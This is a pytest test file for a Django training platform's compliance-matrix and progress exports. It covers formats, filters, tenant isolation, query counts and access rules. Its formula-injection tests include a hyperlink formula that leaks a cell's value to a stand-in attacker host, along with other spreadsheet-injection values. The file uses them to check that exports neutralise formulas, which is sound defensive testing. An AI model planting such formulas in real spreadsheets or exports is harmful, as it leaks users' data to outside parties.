"""The compliance matrix and progress exports: content, filters, formats, formula
injection, query counts per chunk, and tenancy."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import uuid

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from certificates.tests.fixtures import issue, make_programme
from courses.models import Enrolment
from lms.accounts.tests.factories import AdministrationFactory, UnitFactory
from lms.tracking import selectors
from lms.tracking.filters import matrix_filters_from_query
from lms.tracking.selectors import MatrixFilters
from lms.tracking.tests.conftest import officer, overdue_assignment

pytestmark = pytest.mark.django_db

#: Session, user, administration, programmes (3), the export's audit record (one INSERT,
#: lms/audit), then the rows: the matrix streams the officers and spends two queries per
#: chunk; progress is one streamed query.
EXPORT_QUERIES = {"matrix": 10, "progress": 5}

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
SUM = "+SUM(1,2)"


def matrix_url(fmt="csv", query="", code="PER"):
    return reverse("tracking:matrix_export", args=[code, fmt]) + (f"?{query}" if query else "")


def progress_url(fmt="csv", code="PER"):
    return reverse("tracking:progress_export", args=[code, fmt])


def read(response) -> list[list]:
    """The export's rows (header first), from CSV or XLSX."""
    data = b"".join(response.streaming_content)
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def by_name(rows, column=1):
    return {row[column]: row for row in rows[1:]}


# --- the compliance matrix -------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_matrix_export_has_a_row_per_officer_with_status_and_expiry(
    client, world, per_manager, fmt
):
    client.force_login(per_manager)
    response = client.get(matrix_url(fmt))
    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="PER-compliance-{today}.{fmt}"'
    )
    assert response["Cache-Control"] == "no-store"
    rows = read(response)
    assert rows[0] == [
        "Employee number",
        "Name",
        "Unit",
        "E-mail",
        "Certified illicit trade analyst: status",
        "Certified illicit trade analyst: expires on (UTC)",  # the administration's zone
    ]
    rows = by_name(rows)
    assert set(rows) == {
        "Ana Valid",
        "Beto Expiring",
        "Carla Expired",
        "Dario Overdue",
        "Elena Progress",
        "Fabio Nothing",
        "Gina Revoked",
        "Hugo Renewed",
        "Ines Comeback",
        "Juan Done",
        "Karla Both",
    }  # never PAN's officer, never the manager (not an officer)
    ana = rows["Ana Valid"]
    assert ana[:4] == ["V-1", "Ana Valid", "Callao", "u-per-v-1@example.org"]
    assert ana[4] == "Valid"
    cert = world.people.valid.certificates.get()
    assert ana[5] == timezone.localdate(cert.expires_at).isoformat()
    assert rows["Beto Expiring"][4] == "Expiring"
    assert rows["Carla Expired"][4:] == [
        "Expired",
        timezone.localdate(world.people.expired.certificates.get().expires_at).isoformat(),
    ]
    assert rows["Dario Overdue"][4:] == ["Overdue", ""]
    assert rows["Elena Progress"][4] == "In progress"
    assert rows["Fabio Nothing"][2:5] == ["", "u-per-n-1@example.org", "Not started"]
    assert rows["Gina Revoked"][4:] == ["Not started", ""]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=expiring", {"Beto Expiring"}),
        ("status=overdue", {"Dario Overdue", "Karla Both"}),
        ("q=beto", {"Beto Expiring"}),
        ("q=V-1", {"Ana Valid"}),  # PAN's officer has the same number: not exported
        ("programme=integrity&status=expired", {"Carla Expired"}),
    ],
)
def test_matrix_export_applies_the_pages_filters(client, world, per_manager, query, expected):
    client.force_login(per_manager)
    assert set(by_name(read(client.get(matrix_url(query=query))))) == expected


def test_matrix_export_filters_by_unit_and_its_sub_units(client, world, per_manager):
    client.force_login(per_manager)
    rows = by_name(read(client.get(matrix_url(query=f"unit={world.unit.pk}"))))
    assert "Beto Expiring" in rows  # Terminal 1 is inside Callao
    assert "Carla Expired" not in rows  # Lima airport


@pytest.mark.parametrize(
    "query",
    [
        "status=bogus",
        "programme=nope",
        "unit=999999",
        "status=valid&q=Pan+Person",
    ],
)
def test_unknown_filters_export_no_rows_but_a_header(client, world, per_manager, query):
    client.force_login(per_manager)
    response = client.get(matrix_url(query=query))
    assert response.status_code == 200
    rows = read(response)
    assert len(rows) == 1 and rows[0][0] == "Employee number"


def test_a_pan_unit_never_brings_pan_rows_into_the_per_export(client, world, per_manager):
    client.force_login(per_manager)
    for query in (f"unit={world.people.pan.unit_id}", "q=Pan", "q=V-1&sort=-name", "unit=abc"):
        text = b"".join(client.get(matrix_url(query=query)).streaming_content).decode()
        assert "Pan Person" not in text and "u-pan-v-1" not in text


def test_matrix_export_sorts_like_the_page(client, world, per_manager):
    client.force_login(per_manager)
    names = [row[1] for row in read(client.get(matrix_url(query="sort=-name")))[1:]]
    assert names == sorted(names, reverse=True)
    numbers = [row[0] for row in read(client.get(matrix_url(query="sort=number")))[1:]]
    assert numbers == sorted(numbers)


def test_filters_are_read_from_the_query_string():
    assert matrix_filters_from_query({}) == MatrixFilters()
    assert matrix_filters_from_query(
        {"unit": " 12 ", "programme": "alpha", "status": "expired", "q": "  Ana ", "sort": "-name"}
    ) == MatrixFilters(unit=12, programme="alpha", status="expired", q="Ana", sort="-name")
    for bad in ("abc", "-3", "0", "1e3", "١٢"):
        assert matrix_filters_from_query({"unit": bad}).unit is None
    assert len(matrix_filters_from_query({"q": "x" * 500}).q) == 100


# --- progress ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_progress_export_has_a_row_per_enrolment(client, world, per_manager, fmt):
    now = timezone.now()
    completed = Enrolment.objects.create(
        user=world.people.valid,
        administration=world.per,
        course_key=uuid.uuid4(),
        status=Enrolment.Status.COMPLETED,
        percent_complete=100,
        last_activity_at=now,
        completed_at=now,
    )
    Enrolment.objects.create(
        user=world.people.pan, administration=world.pan, course_key=uuid.uuid4()
    )
    client.force_login(per_manager)
    response = client.get(progress_url(fmt))
    assert response.status_code == 200
    assert (
        f'filename="PER-progress-{timezone.localdate().isoformat()}.{fmt}"'
        in (response["Content-Disposition"])
    )
    rows = read(response)
    assert rows[0] == [
        "Employee number",
        "Name",
        "Unit",
        "Course",
        "Status",
        "Percent complete",
        "Enrolled (UTC)",
        "Last activity (UTC)",
        "Completed (UTC)",
    ]
    assert len(rows) == 3  # Elena's enrolment and Ana's; never PAN's
    ana, elena = rows[1], rows[2]
    assert ana[:4] == ["V-1", "Ana Valid", "Callao", str(completed.course_key)]
    assert ana[4] == "Completed"
    assert str(ana[5]) == "100"
    stamp = timezone.localtime(now).strftime("%Y-%m-%d %H:%M")
    assert ana[7] == stamp and ana[8] == stamp
    assert elena[:5] == [
        "P-1",
        "Elena Progress",
        "Callao",
        "Detecting illicit trade",
        "In progress",
    ]
    assert str(elena[5]) == "0"
    assert elena[8] == ""


def test_progress_labels_follow_the_language(client, world, per_manager):
    client.force_login(per_manager)
    client.post(reverse("accounts:language"), {"language": "es", "next": "/"})
    rows = read(client.get(progress_url()))
    assert rows[0][:3] == ["Número de empleado", "Nombre", "Unidad"]
    assert rows[1][4] == "En curso"
    assert len(rows) == 2


# --- formula injection -------------------------------------------------------------------------


@pytest.fixture
def hostile(per, pan, per_unit, django_capture_on_commit_callbacks):
    unit = UnitFactory(administration=per, code="EVIL", name="@evil unit")
    programme = make_programme(code="alpha", titles={"en": "=1+1 programme"})
    people = [
        officer(per, unit, HYPERLINK, "=2+3"),
        officer(per, per_unit, SUM, "-7", email="x@example.org"),
    ]
    with django_capture_on_commit_callbacks(execute=False):
        issue(people[0], programme)
    for person in people:
        Enrolment.objects.create(
            user=person, administration=per, course_key=uuid.uuid4(), percent_complete=5
        )
    return people


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("which", ["matrix", "progress"])
def test_formulas_are_neutralised(client, hostile, per_manager, fmt, which):
    client.force_login(per_manager)
    response = client.get(matrix_url(fmt) if which == "matrix" else progress_url(fmt))
    rows = read(response)
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    for payload in (HYPERLINK, SUM, "=2+3", "-7", "@evil unit"):
        assert "'" + payload in cells
        assert payload not in cells
    if which == "matrix":
        assert "'=1+1 programme: status" in rows[0]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    if fmt == "xlsx":
        data = b"".join(client.get(matrix_url(fmt)).streaming_content)
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value)


# --- query counts ------------------------------------------------------------------------------


def populate(code, count):
    administration = AdministrationFactory(code=code)
    programme = make_programme(code=f"p-{code.lower()}", validity_months=36)
    units = [
        UnitFactory(administration=administration, code=f"U{i}", name=f"Unit {i}") for i in range(3)
    ]
    now = timezone.now()
    for index in range(count):
        person = officer(administration, units[index % 3], f"Person {index:03}", f"N-{index}")
        issue(person, programme, issued_at=now - dt.timedelta(days=index * 40))
        Enrolment.objects.create(
            user=person, administration=administration, course_key=uuid.uuid4()
        )
        Enrolment.objects.create(
            user=person, administration=administration, course_key=uuid.uuid4()
        )
        overdue_assignment(person, programme=programme)
    return administration


@pytest.mark.parametrize("which", ["matrix", "progress"])
def test_export_query_count_does_not_grow_with_officers(
    client, which, django_capture_on_commit_callbacks, django_assert_max_num_queries
):
    from lms.accounts.tests.factories import manager

    counts = {}
    for code, size in (("QXA", 3), ("QXB", 30)):
        with django_capture_on_commit_callbacks(execute=False):
            administration = populate(code, size)
        client.force_login(manager(administration))
        address = matrix_url(code=code) if which == "matrix" else progress_url(code=code)
        client.get(address)  # warm the caches
        with django_assert_max_num_queries(EXPORT_QUERIES[which]) as queries:
            rows = read(client.get(address))
        assert len(rows) == 1 + size * (1 if which == "matrix" else 2)
        counts[size] = len(queries)
    assert counts[3] == counts[30], counts


@pytest.mark.parametrize(("size", "chunk"), [(30, 7), (30, 30), (12, 5), (0, 5)])
def test_matrix_rows_cost_two_queries_per_chunk(
    size, chunk, django_capture_on_commit_callbacks, django_assert_num_queries
):
    with django_capture_on_commit_callbacks(execute=False):
        administration = populate("QXC", size)
    columns = selectors.programme_columns(administration)
    chunks = math.ceil(size / chunk)
    with django_assert_num_queries(1 + 2 * chunks):
        rows = list(
            selectors.matrix_export_rows(administration, columns, MatrixFilters(), chunk_size=chunk)
        )
    assert [row.officer.full_name for row in rows] == [f"Person {i:03}" for i in range(size)]
    assert all(row.cells[0].status == "overdue" or row.cells[0].expires_at for row in rows)


def test_progress_rows_cost_one_query(
    django_capture_on_commit_callbacks, django_assert_num_queries
):
    with django_capture_on_commit_callbacks(execute=False):
        administration = populate("QXD", 12)
    with django_assert_num_queries(1):
        rows = list(selectors.progress_export_rows(administration, chunk_size=5))
    assert len(rows) == 24


# --- access ---------------------------------------------------------------------------------------


def test_unknown_format_is_404(client, per, per_manager):
    client.force_login(per_manager)
    assert client.get(matrix_url("pdf")).status_code == 404
    assert client.get(progress_url("json")).status_code == 404


@pytest.mark.parametrize("who", ["pan_manager", "per_officer", "coordinator"])
def test_people_without_the_right_get_404(client, per, pan, who, request):
    client.force_login(request.getfixturevalue(who))
    for fmt in ("csv", "xlsx"):
        assert client.get(matrix_url(fmt)).status_code == 404
        assert client.get(progress_url(fmt)).status_code == 404


def test_platform_admins_export_any_administration(client, world, platform_admin):
    client.force_login(platform_admin)
    rows = read(client.get(matrix_url(code="PAN")))
    assert [row[1] for row in rows[1:]] == ["Pan Person"]
